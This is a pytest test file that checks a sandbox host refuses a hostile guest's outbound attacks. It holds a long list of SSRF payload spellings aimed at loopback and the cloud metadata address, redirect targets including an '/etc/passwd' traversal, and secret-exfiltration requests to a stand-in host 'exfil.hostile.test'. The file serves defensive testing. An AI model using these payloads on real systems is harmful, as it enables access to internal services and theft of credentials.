"""The hostile guest's outbound attacks against the real host: SSRF in every spelling, redirects to private
addresses, secret exfiltration by placeholder, and platforms that reflect the injected credential. Each is refused
before the network with the right error (or, for reflections, redacted), the benign channel keeps answering and no
secret value reaches a log, an answer, a SQLite file or the exfiltration sink (``hostile_env.Stage.finish``)."""

from __future__ import annotations

import json
import logging
import re
from pathlib import Path
from urllib.parse import quote

import pytest
from hostile_env import stage

pytestmark = pytest.mark.e2e


@pytest.fixture(autouse=True)
def debug_log(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)  # the secret scan reads everything the host logs, debug included


NON_PUBLIC = r"non-public address"
NOT_LISTED = r"not in the channel's HTTP allow-list"
BAD_URL = r"userinfo|only https|default https port|invalid host name|invalid IPv6|whitespace, control characters"
SSRF: list[tuple[str, str]] = [
    ("https://127.0.0.1/admin", NON_PUBLIC),
    ("https://127.1/", NON_PUBLIC),
    ("https://2130706433/", NON_PUBLIC),
    ("https://0x7f000001/", NON_PUBLIC),
    ("https://0177.0.0.1/", NON_PUBLIC),
    ("https://0x7f.0.0.1/", NON_PUBLIC),
    ("https://0/", NON_PUBLIC),
    ("https://127.0.0.1./", NON_PUBLIC),
    ("https://127.0.0.1:443/", NON_PUBLIC),
    ("https://10.0.0.1/", NON_PUBLIC),
    ("https://169.254.169.254/latest/meta-data/", NON_PUBLIC),
    ("https://100.64.0.1/", NON_PUBLIC),
    ("https://localhost/", NON_PUBLIC),
    ("https://LocalHost./", NON_PUBLIC),
    ("https://ｌｏｃａｌｈｏｓｔ/", NON_PUBLIC),
    ("https://①②⑦.0.0.1/", NON_PUBLIC + "|" + BAD_URL),
    ("https://[::1]/", NOT_LISTED),
    ("https://[::ffff:127.0.0.1]/", NOT_LISTED),
    ("https://[0:0:0:0:0:ffff:7f00:1]/", NOT_LISTED),
    ("https://[::]/", NOT_LISTED),
    ("https://[fe80::1%25eth0]/", NOT_LISTED + "|" + BAD_URL),
    *[(f"https://{name}/", NON_PUBLIC) for name in (
        "loopback.hostile.test", "LOOPBACK.hostile.test.", "loopback2.hostile.test", "v6loop.hostile.test",
        "mapped.hostile.test", "nat64.hostile.test", "sixtofour.hostile.test", "zero.hostile.test",
        "metadata.hostile.test", "metadata6.hostile.test", "private.hostile.test", "cgnat.hostile.test",
        "linklocal6.hostile.test", "twofaced.hostile.test")],
    ("https://api.allowed.test@127.0.0.1/", BAD_URL),
    ("https://api.allowed.test:x@loopback.hostile.test/", BAD_URL),
    ("https://127.0.0.1%2f@api.allowed.test/", BAD_URL),
    ("https://127.0.0.1#@api.allowed.test/", NON_PUBLIC),
    ("https://127.0.0.1\\@api.allowed.test/", BAD_URL),
    ("https://127.0.0.1:8443/", BAD_URL),
    ("http://127.0.0.1/", BAD_URL),
    ("https://127.0.0.1%00.api.allowed.test/", BAD_URL),
    ("https://api.allowed.test.127.0.0.1.nip.io/", NOT_LISTED),
]


async def test_ssrf_in_every_spelling_refused_before_any_connection(
    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    async with stage(airlock_home, wat_dir, monkeypatch) as st:
        wrong = []
        for url, expected in SSRF:
            seen = await st.http(url)
            if not isinstance(seen, str) or not re.search(expected, seen):
                wrong.append((url, seen))
        assert not wrong, "\n".join(f"{u}: {s!r}" for u, s in wrong)
        assert st.platform.seen == [] and st.sink.seen == []
        assert "connection to" not in caplog.text.lower()
        await st.finish(f"SSRF ({len(SSRF)} spellings)", caplog, capsys)


REDIRECT_TARGETS = [
    "https://127.0.0.1/", "https://loopback.hostile.test/", "https://[::1]/", "https://169.254.169.254/",
    "https://exfil.hostile.test/?k={HOSTILE_TOKEN}", "https://api.allowed.test@127.0.0.1/",
    "https://api.allowed.test/../../etc/passwd", "//loopback.hostile.test/x", "http://127.0.0.1:9/",
]


async def test_redirects_to_private_addresses_not_followed(
    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    async with stage(airlock_home, wat_dir, monkeypatch) as st:
        for status in (301, 302, 303, 307, 308):
            for target in REDIRECT_TARGETS:
                # directly, and after one same-host hop (which the host follows, re-checking the allow-list)
                direct = f"https://api.allowed.test/redirect?status={status}&to={quote(target, safe='')}"
                hop = f"https://api.allowed.test/redirect?status={status}&to={quote(direct, safe='')}"
                for url in (direct, hop):
                    seen = await st.http(url)
                    assert not isinstance(seen, str), (url, seen)
                    assert seen[0] == status and json.loads(seen[1])["location"] == target, (url, seen)
        assert st.sink.seen == []
        assert [n for n in st.resolver.asked if "hostile.test" in n] == []
        await st.finish("redirects to private addresses (5 statuses x 9 targets x 2)", caplog, capsys)


LONG_NAME = "HOSTILE_" + "A" * 70
EXFILTRATION: list[tuple[str, str, dict[str, str], bytes | None, str]] = [
    # (method, url, headers, body, what the guest must be told); none of these may reach the sink
    ("GET", "https://exfil.hostile.test/?t={HOSTILE_TOKEN}", {}, None, "may not be sent to host"),
    ("GET", "https://exfil.hostile.test/{HOSTILE_TOKEN}/x", {}, None, "may not be sent to host"),
    ("GET", "https://exfil.hostile.test/", {"X-Leak": "{HOSTILE_TOKEN}"}, None, "may not be sent to host"),
    ("GET", "https://exfil.hostile.test/", {"Authorization": "Bearer {HOSTILE_TOKEN}"}, None,
     "may not be sent to host"),
    ("POST", "https://exfil.hostile.test/", {"X-Airlock-Body-Secrets": "HOSTILE_TOKEN",
                                            "Content-Type": "application/json"}, b'{"t": "{HOSTILE_TOKEN}"}',
     "may not be sent to host"),
    ("GET", "https://api.allowed.test/?t={BENIGN_TOKEN}", {}, None, "may not use secret placeholder"),
    ("GET", "https://exfil.hostile.test/?t={BENIGN_TOKEN}", {}, None, "may not use secret placeholder"),
    ("GET", "https://exfil.hostile.test/?t={AIRLOCK_MASTER_KEY}", {}, None, "may not use secret placeholder"),
    ("GET", f"https://api.allowed.test/{{{LONG_NAME}}}", {}, None, "may not use secret placeholder"),
    ("GET", "https://exfil.hostile.test/", {"X-Leak": f"{{{LONG_NAME}}}"}, None, "may not use secret placeholder"),
    ("GET", "https://{HOSTILE_TOKEN}.hostile.test/", {}, None, "invalid host name"),
    ("GET", "https://exfil.hostile.test/", {"X-Airlock-Body-Secrets": "hostile-token!"}, b"x", "invalid placeholder"),
]
NAMES = {"hostile_token": b"1", "benign_token": b"0", "hostile_BAD-Name!": b"0", "hostile_" + "a" * 70: b"0",
         "": b"0", "HOSTILE_TOKEN": b"0", "hostile_token\x00": b"0", "../secrets.json": b"0", "hostile_*": b"0"}


async def test_secret_exfiltration_refused_before_the_network(
    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    async with stage(airlock_home, wat_dir, monkeypatch) as st:
        wrong: list[tuple[object, ...]] = []
        for method, url, headers, body, expected in EXFILTRATION:
            seen = await st.http(url, headers, body, method)
            if not isinstance(seen, str) or expected not in seen:
                wrong.append((method, url, headers, seen))
        for name, exists in NAMES.items():
            answer = await st.order("x", name)
            if (answer.status, answer.body) != (200, exists):
                wrong.append(("secret-exists", name, answer.status, answer.body[:100]))
        assert not wrong, "\n".join(map(repr, wrong))
        assert st.sink.seen == []
        # Spellings that are not placeholders go out as they are: the value never does.
        for literal in ("{hostile_token}", "{HOSTILE_TOKEN", "HOSTILE_TOKEN}", "{HOSTILE-TOKEN}"):
            seen = await st.http(f"https://exfil.hostile.test/?t={literal}", {"X-Leak": literal})
            assert not isinstance(seen, str) and seen[0] == 200, (literal, seen)
        assert len(st.sink.seen) == 4
        assert not [r for r in caplog.records if "host bug" in r.getMessage()]
        await st.finish(f"secret exfiltration ({len(EXFILTRATION)} placeholders, {len(NAMES)} names)", caplog, capsys)


REFLECTIONS: list[tuple[str, str, dict[str, str], bytes | None]] = [
    ("GET", "https://api.allowed.test/reflect", {}, None),  # the credential header the host injects
    ("GET", "https://api.allowed.test/reflect/{HOSTILE_TOKEN}/x", {}, None),
    ("GET", "https://api.allowed.test/reflect/x?qs=t={HOSTILE_TOKEN}", {}, None),
    ("GET", "https://api.allowed.test/reflect", {"X-Echo": "k={HOSTILE_TOKEN};"}, None),
    ("POST", "https://api.allowed.test/reflect", {"X-Airlock-Body-Secrets": "HOSTILE_TOKEN",
                                                 "Content-Type": "application/json"}, b'{"t": "{HOSTILE_TOKEN}"}'),
    ("POST", "https://api.allowed.test/reflect", {"X-Airlock-Body-Secrets": "HOSTILE_TOKEN",
                                                 "Content-Type": "application/x-www-form-urlencoded"},
     b"t={HOSTILE_TOKEN}"),
]


async def test_reflected_credentials_never_reach_the_guest_in_any_encoding(
    airlock_home: Path, wat_dir: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """An allow-listed platform that reflects what it received (percent-encoding in either case, JSON with
    escaped slashes, \\uXXXX, HTML entities, base64) must not hand the injected token to the guest: the response
    comes back cleaned, or is withheld with an error that says so."""
    async with stage(airlock_home, wat_dir, monkeypatch) as st:
        for method, url, headers, body in REFLECTIONS:
            seen = await st.http(url, headers, body, method)
            if isinstance(seen, str):  # withheld, or (issue 13, item 2) a secret the host will not put in a query
                assert re.search(r"withheld|may not be sent in the query string", seen), (url, seen)
            else:
                assert seen[0] == 200, (url, seen)
        assert len(st.platform.seen) >= len(REFLECTIONS) - 1  # the platform got the token, injected by the host
        await st.finish(f"credential reflection ({len(REFLECTIONS)} requests, 11 encodings each)", caplog, capsys)
